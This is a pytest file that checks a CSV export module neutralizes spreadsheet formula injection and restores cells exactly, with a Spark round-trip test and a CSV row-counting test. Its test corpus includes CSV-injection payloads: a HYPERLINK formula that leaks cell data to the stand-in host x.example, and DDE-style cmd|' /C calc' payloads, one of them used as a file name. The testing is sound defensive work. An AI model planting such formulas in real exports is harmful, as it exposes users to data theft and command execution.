"""No exported cell runs as a formula, and every neutralized cell restores to its exact original.

The dangerous first characters are OWASP's list (https://owasp.org/www-community/attacks/CSV_Injection:
``=``, ``+``, ``-``, ``@``, tab, CR, LF) plus their full-width forms (issue 15); the expected outputs
below are written by hand from that rule, and the files are read back with Python's ``csv`` module
(an independent RFC 4180 reader), not with the code under test.
"""

from __future__ import annotations

import csv
import sys

import pytest

from jobs.export.cells import FORMULA_FIRST_CHARACTERS, neutralize, restore

#: A hostile-cell corpus: every dangerous first character, full-width forms, values already beginning
#: with an apostrophe, numbers that must stay as they are, and harmless values.
HOSTILE = {
    '=HYPERLINK("http://x.example/?q="&A1,"点击")': "'" + '=HYPERLINK("http://x.example/?q="&A1,"点击")',
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "\n=1+1": "'\n=1+1",
    "＝1+1": "'＝1+1",
    "＋86 139": "'＋86 139",
    "－1": "'－1",
    "＠SUM(A1)": "'＠SUM(A1)",
    "'=1+1": "''=1+1",
    "'already text": "''already text",
    "''": "'''",
    "-": "'-",
    "+": "'+",
    "-3.5": "-3.5",
    "+8613912345678": "+8613912345678",
    "1e5": "1e5",
    "-0.25E-3": "-0.25E-3",
    "110105198506150313": "110105198506150313",
    "0105551234": "0105551234",
    "张三=李四": "张三=李四",
    "a'b": "a'b",
    "": "",
}


@pytest.mark.parametrize("original, expected", list(HOSTILE.items()))
def test_neutralize_by_hand_and_restore(original, expected):
    assert neutralize(original) == expected
    assert restore(neutralize(original)) == original


def test_none_passes():
    assert neutralize(None) is None and restore(None) is None


def _no_formula(cell: str) -> bool:
    """The OWASP test, independently stated: a cell is safe if it does not start with a formula
    character, or it is a plain number (Python's ``float`` accepts it, no spaces), which a
    spreadsheet reads as a constant."""
    if not cell or cell[0] not in FORMULA_FIRST_CHARACTERS:
        return True
    try:
        float(cell)
    except ValueError:
        return False
    return cell.isascii() and cell == cell.strip()


def test_write_table_hostile_long_and_counts(spark, tmp_path):
    """Through Spark's CSV writer: no live formula, exact round trip, a 200,000-character cell flows
    (issue 13 defect 3), rows counted while writing equal the rows Python's csv reader finds."""
    from pyspark.sql.types import LongType, StringType, StructField, StructType

    from jobs.export.bundle import write_table

    long_value = "=" + "长" * 200_000
    values = [*HOSTILE, long_value, 'with "quotes"\nand a line break', None]
    rows = [(i, v, "'x" if i % 2 else "plain") for i, v in enumerate(values)]
    schema = StructType([StructField("n", LongType()), StructField("v", StringType()), StructField("w", StringType())])
    df = spark.createDataFrame(rows, schema)
    written = write_table(df, ["n", "v", "w"], ["n"], tmp_path / "t.csv", tmp_path / "parts")

    old = csv.field_size_limit()
    csv.field_size_limit(sys.maxsize)
    try:
        with open(tmp_path / "t.csv", encoding="utf-8-sig", newline="") as fh:
            got = list(csv.reader(fh))
    finally:
        csv.field_size_limit(old)
    assert got[0] == ["n", "v", "w"]
    assert written.rows == len(got) - 1 == len(values)
    for (n, v, w), line in zip(rows, got[1:], strict=True):
        assert line[0] == str(n)
        assert all(_no_formula(c) for c in line)
        # NULL is written as an empty field, "" as "" (both read back as ""):
        assert restore(line[1]) == (v or "")
        assert restore(line[2]) == w
    # Hand count: corpus values that change (expected != original), the long "=" value, and every
    # odd row's "'x" in column w.
    changed_v = sum(1 for k, e in HOSTILE.items() if k != e) + 1
    assert written.neutralized == {"v": changed_v, "w": len(values) // 2}


def test_evidence_items_csv_neutralizes_file_names(tmp_path):
    from jobs.export.bundle import evidence_items_csv

    items = [{"path": "=cmd|' /C calc'!A0.csv", "bytes": 10, "sha256": "a" * 64, "format": "csv"},
             {"path": "'住宿登记.csv", "bytes": 5, "sha256": "b" * 64, "format": "csv"},
             {"path": "-3.csv", "bytes": 5, "sha256": "c" * 64, "format": "csv"}]
    counts = evidence_items_csv(items, tmp_path / "e.csv")
    with open(tmp_path / "e.csv", encoding="utf-8-sig", newline="") as fh:
        got = list(csv.DictReader(fh))
    assert [r["path"] for r in got] == ["'=cmd|' /C calc'!A0.csv", "''住宿登记.csv", "'-3.csv"]
    assert [restore(r["path"]) for r in got] == [i["path"] for i in items]
    assert counts == {"path": 3}


@pytest.mark.parametrize("chunk", [1, 2, 3, 7, 1 << 20])
def test_count_csv_rows_matches_python_csv_at_every_chunk_boundary(chunk):
    """Rows counted in the byte stream equal the records Python's csv module reads, however the
    bytes are split (a chunk may end inside a quoted field or between the two quotes of ``""``)."""
    import io

    from jobs.export.bundle import count_csv_rows

    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n", quoting=csv.QUOTE_MINIMAL)
    rows = [["a", 'x"y\nz', ""], ['""', "\n\n", "长\r\n"], ["plain", "q", '"']]
    w.writerows(rows)
    data = buf.getvalue().encode("utf-8")
    chunks = [data[i:i + chunk] for i in range(0, len(data), chunk)]
    assert count_csv_rows(chunks) == len(list(csv.reader(io.StringIO(buf.getvalue(), newline="")))) == len(rows)
